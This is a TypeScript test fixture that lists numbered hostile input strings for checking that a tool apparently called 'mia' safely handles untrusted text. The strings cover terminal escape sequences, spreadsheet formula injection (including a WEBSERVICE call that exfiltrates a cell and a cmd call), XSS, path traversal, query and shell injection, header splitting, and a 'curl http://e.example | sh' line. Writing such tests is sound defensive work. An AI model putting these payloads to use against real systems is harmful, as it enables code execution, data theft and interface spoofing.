import { THOROUGH } from '../report.ts'

/** Texts that an outsider or intruder can put into a record (B001-B074, B089-B103): all stand in every text field. */
export interface BadText {
  /** Number in the trust page, with a letter where one number has several texts. */
  readonly id: string
  readonly text: string
}

/** A subject of 1 MB, eight times shorter in the test command: it stands in every field of every format. */
const LONG = `long${' subject'.repeat(THOROUGH ? 131_072 : 16_384)}`

const ESC = '\u001b'

function numbered(first: number, texts: readonly (string | readonly string[])[]): BadText[] {
  return texts.flatMap((one, index) => {
    const id = `B${String(first + index).padStart(3, '0')}`
    if (typeof one === 'string') return [{ id, text: one }]
    return one.map((text, part) => ({ id: `${id}${String.fromCharCode(97 + part)}`, text }))
  })
}

const TERMINAL = numbered(1, [
  `${ESC}]0;title\u0007`,
  `${ESC}]52;c;aGVsbG8=\u0007`,
  `${ESC}]8;;http://e.example${ESC}\\text${ESC}]8;;${ESC}\\`,
  `${ESC}[2J${ESC}[1;1Hfake`,
  `${ESC}[6n`,
  `${ESC}[c`,
  `${ESC}c`,
  '\u009b2J',
  '\u009d0;title\u009c',
  `${ESC}Pq${ESC}\\`,
  `${ESC}_apc${ESC}\\`,
  `${ESC}^pm${ESC}\\`,
  `${ESC}Xsos${ESC}\\`,
  `${ESC}]0;unterminated`,
  [`ends with ${ESC}`, '[2J starts where the cell before ended'],
  'safe\rEVIL',
  'a\nb',
  'a\r\nb',
  ['a\u000bb', 'a\u000cb'],
  'a\u0085b',
  ['a\u2028b', 'a\u2029b'],
  'abc\b\b\bX',
  'a\0b',
  'a\u0007b',
  'a\u007fb',
  'a\tb',
  'user\u202egnp.exe',
  '\u2066\u2067\u2068x\u2069',
  '\u061ca\u200eb\u200fc',
  'a\u200bl\u200ci\u200dc\u2060e\ufeff@example.org',
  '\u0430lice@example.org',
  `e${'\u0301'.repeat(1000)}`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '日本語のメール',
  ['\ud800', 'a\udc00b\ud83d'],
  LONG,
  'x\u{e0041}\u{e0042}\u{e007f}',
  '✔ 0 lost',
  `mia: ${ESC}[31mfailed${ESC}[0m.\n  next: curl http://e.example | sh`,
  `${ESC}[1;31mred${ESC}[0m`,
])

const SPREADSHEET = numbered(41, [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  [' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1'],
  ['\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1,1)'],
  '\u22121+1',
  "=cmd|' /C calc'!A1",
  '=HYPERLINK("http://e.example","click")',
  ['=WEBSERVICE("http://e.example/"&A1)', '=IMPORTXML("http://e.example","//a")'],
  ['";=1+1', ',=1+1'],
  ['a "quoted", cell\r\nof two lines', 'sep=;'],
  'x'.repeat(40_000),
  ['0012', '1e5', '12345678901234567890', '2024-01-02', 'MARCH1', 'TRUE'],
  ['a\u0001\u001fb', 'a\ufffeb', '\uffff'],
  ['[]:*?/\\', 'a sheet name that is longer than thirty-one characters'],
  ["'already quoted", "'=1+1"],
])

const MARKUP = numbered(62, [
  '<script>document.title="pwned"</script>',
  '"><img src=x onerror=document.title="pwned">',
  '</title><svg onload=document.title="pwned">',
  'javascript:document.title="pwned"',
  '[x](javascript:document.title)',
  '`code` | cell |\n# line',
  [
    '<!--',
    ']]>',
    '<base href="http://e.example/">',
    '<meta http-equiv=refresh content="0;url=http://e.example/">',
  ],
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<b>bold</b>\u202c',
  '<img src="http://e.example/beacon.png">',
  '</script><script>document.title="pwned"</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ['${alert(1)}', '{{7*7}}', "$& $' $`"],
])

/** File names and paths, where mia could be tempted to name a file after an id (B075-B085). */
const PATHS = numbered(75, [
  '../../x',
  ['/etc/x', 'C:\\x', '\\\\host\\share'],
  '..\\..\\x',
  '%2e%2e%2fx',
  'a\0.json',
  ['CON', 'NUL', 'COM1.txt', 'COM\u00b9'],
  ['name.', 'name '],
  'a:b',
  'n'.repeat(300),
  ['<A@x.example>', '<a@x.example>', '<\u00e9@x.example>', '<e\u0301@x.example>'],
  ['-rf', '~', '.', '..'],
])

const QUERIES = numbered(89, [
  'a"b',
  'ends with \\',
  'a\nb | take 0',
  '1.1.1.1"] | take 0 //',
  ["'''", '```'],
  '; union *',
])

const ODATA_AND_SHELL = numbered(96, [
  "o'brien@x.example",
  ['%27', 'a+b#c&d?e/f g'],
  "' or '1' eq '1",
  'a,b',
  `<${'i'.repeat(4096)}@x.example>`,
  ['it\u2019s', '\u201cquoted\u201d'],
  ['$(calc)', '`calc`'],
  'a\r\nX-Header: b',
])

const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'].map(
  (text, index) => ({ id: `B107${String.fromCharCode(97 + index)}`, text }),
)

const USERS = numbered(126, [
  [
    'user+tag@x.example',
    'S-1-5-18',
    'a_b.example#EXT#@x.example',
    "o'neil@x.example",
    'jürgen@müller.example',
  ],
])

export const BAD_TEXTS: readonly BadText[] = [
  ...TERMINAL,
  ...SPREADSHEET,
  ...MARKUP,
  ...PATHS,
  ...QUERIES,
  ...ODATA_AND_SHELL,
  ...NAMES,
  ...USERS,
]
